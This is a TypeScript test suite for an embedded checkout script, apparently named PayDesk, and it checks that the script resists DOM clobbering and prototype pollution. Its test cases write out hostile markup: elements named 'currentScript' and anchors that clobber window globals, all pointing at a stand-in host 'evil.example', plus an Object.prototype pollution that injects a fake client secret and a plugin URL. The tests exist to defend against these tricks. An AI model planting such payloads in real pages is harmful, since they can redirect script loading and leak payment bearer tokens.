/**
 * Markup of the page's users, without any script, whose names replace the globals that our script reads: it must neither be
 * trusted nor stop the checkout.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { waitFor } from '../../support/wait-for.ts';
import { setUpShopPage } from '../shop-page-harness.ts';

/**
 * Names that our script or Lit reads from a document or a window; those that Lit cannot do without, like `createElement`, are
 * left out.
 */
const ofADocument = [
  'currentScript',
  'body',
  'head',
  'documentElement',
  'readyState',
  'hidden',
  'addEventListener',
  'querySelector',
];
const ofAWindow = ['PayDesk', 'PAY_DESK_VERSION', 'litHtmlPolyfillSupport', 'litElementPolyfillSupport', 'litHtmlVersions'];
const clobber = [
  ...[...ofADocument, 'querySelectorAll', 'removeEventListener'].map((name) => `<img name="${name}" alt="">`),
  ...[...ofAWindow, 'litElementVersions', 'reactiveElementVersions', 'reactiveElementPolyfillSupport', 'requestIdleCallback'].map(
    (name) => `<a id="${name}"></a><a id="${name}" name="mount" href="https://evil.example/"></a>`,
  ),
].join('');

describe('markup that clobbers global names', () => {
  const harness = setUpShopPage();
  const pinned = async () => {
    const [build] = (await (await fetch(`${harness.bff}/v1/integrity.json`)).json()) as { url: string; integrity: string }[];
    return build ?? assert.fail('no pinned build');
  };
  /** The page's requests to other origins than the shop's and the BFF's, with the bearer that was sent. */
  const watchEvil = async () => {
    const requests: string[] = [];
    await harness.context.route('https://evil.example/**', (route) => {
      const request = route.request();
      requests.push(`${request.method()} ${request.url()} ${request.headers().authorization ?? ''}`);
      const body = request.resourceType() === 'script' ? 'document.documentElement.dataset.evil = "ran"' : '{}';
      return route.fulfill({ body, contentType: 'text/javascript', headers: { 'access-control-allow-origin': '*' } });
    });
    return requests;
  };
  const open = async (body: string) => {
    await harness.serve(`${harness.shop}/page`, `<!doctype html><html lang="en"><body>${body}`);
    await harness.page.goto(`${harness.shop}/page`);
  };
  const isDrawn = () => harness.page.locator('pay-desk[data-status=open]').waitFor();
  const evilRan = () => harness.page.locator('html').getAttribute('data-evil');

  for (const version of ['the moving script', 'the pinned one'] as const) {
    for (const evil of [
      '<img name="currentScript" src="https://evil.example/v1/pay-desk.js" alt="">',
      '<iframe name="currentScript" src="https://evil.example/v1/pay-desk.js"></iframe>',
      '<form name="currentScript"><input name="src" value="https://evil.example/v1/pay-desk.js"></form>',
      '<embed name="currentScript" src="https://evil.example/v1/pay-desk.js">',
      '<object name="currentScript" data="https://evil.example/v1/pay-desk.js"></object>',
    ]) {
      it(`${version} calls its own server, whatever ${/<\w+/.exec(evil)?.[0]}> names`, async () => {
        const requests = await watchEvil();
        const { clientSecret } = await harness.payment();
        const tag =
          version === 'the pinned one' ? `src="${harness.bff}${(await pinned()).url}"` : `src="${harness.bff}/v1/pay-desk.js"`;
        await open(
          `${evil}<div id="checkout"></div><script ${tag} data-client-secret="${clientSecret}" data-target="#checkout"></script>`,
        );
        await isDrawn();
        assert.deepEqual(
          requests.filter((line) => line.includes('Bearer') || /chunks|checkout/.test(line)),
          [],
        );
        assert.equal(await evilRan(), null);
      });
    }

    it(`${version} pays on a page where every name is clobbered`, async () => {
      const { clientSecret } = await harness.payment();
      const src = harness.bff + (version === 'the pinned one' ? (await pinned()).url : '/v1/pay-desk.js');
      await open(`${clobber}<div id="checkout"></div>
        <script src="${src}" data-client-secret="${clientSecret}" data-target="#checkout"></script>`);
      await isDrawn();
      assert.equal(await harness.page.evaluate(() => typeof window.PayDesk?.mount), 'function');
      await harness.pay(harness.page, version === 'the pinned one' ? 'GOOD0001' : 'GOOD0002');
    });

    it(`${version} as a module, which has no current script, is found by its URL`, async () => {
      const { clientSecret } = await harness.payment();
      const src = harness.bff + (version === 'the pinned one' ? (await pinned()).url : '/v1/pay-desk.js');
      await open(`<img name="querySelectorAll" alt=""><div id="PayDesk"></div><div id="checkout"></div>
        <script type="module" src="${src}" data-client-secret="${clientSecret}" data-target="#checkout"></script>`);
      await isDrawn();
      assert.equal(await harness.page.evaluate(() => typeof window.PayDesk?.mount), 'function');
    });
  }

  const waiting = '<pay-desk><p slot="fallback" hidden>Pay by phone</p></pay-desk>';
  const codeOfTheScript = async () =>
    (await (await fetch(`${harness.bff}/v1/pay-desk.js`)).text()).replaceAll('</script', '<\\/script');
  const showsFallback = async () => {
    await harness.page.locator('pay-desk[data-status=load_error]').waitFor();
    assert.ok(await harness.page.getByText('Pay by phone').isVisible());
    assert.deepEqual(
      harness.complaints.splice(0).filter((line) => !line.includes('cannot find its own <script')),
      [],
    );
  };

  it('an inline script knows no server: it calls none and shows the fallback', async () => {
    const requests = await watchEvil();
    await open(
      `<img name="currentScript" src="https://evil.example/v1/pay-desk.js" alt="">${waiting}<script>${await codeOfTheScript()}</script>`,
    );
    await showsFallback();
    assert.deepEqual(
      requests.filter((line) => /chunks|checkout/.test(line)),
      [],
    );
  });

  it('a script that a loader runs trusts neither of two servers that could be its own', async () => {
    const requests = await watchEvil();
    const tags = ['https://evil.example', harness.bff].map(
      (from) => `<script type="text/later" src="${from}/v1/pay-desk.js"></script>`,
    );
    await open(`${waiting}${tags.join('')}<script>setTimeout(() => { ${await codeOfTheScript()} })</script>`);
    await showsFallback();
    assert.deepEqual(requests, []);
  });

  it('a script that a loader runs later is found by its URL', async () => {
    await open(`${waiting}<script type="text/later" src="${harness.bff}/v1/pay-desk.js"></script>
      <script>setTimeout(() => { ${await codeOfTheScript()} })</script>`);
    await waitFor(() => harness.page.evaluate(() => customElements.get('pay-desk') !== undefined));
  });

  it('an option that is inherited from Object.prototype is ignored', async () => {
    const { clientSecret } = await harness.payment();
    await open(`<div id="checkout"></div><script>Object.assign(Object.prototype, {
        target: '#nowhere', noSubmitButton: true, disabled: true, fetchClientSecret: async () => 'cs_evil', pluginUrl: 'https://evil.example/',
      })</script><script src="${harness.bff}/v1/pay-desk.js" data-client-secret="${clientSecret}"></script>`);
    await isDrawn();
    assert.ok(await harness.page.getByRole('button', { name: /^Pay 25/ }).isVisible());
  });
});
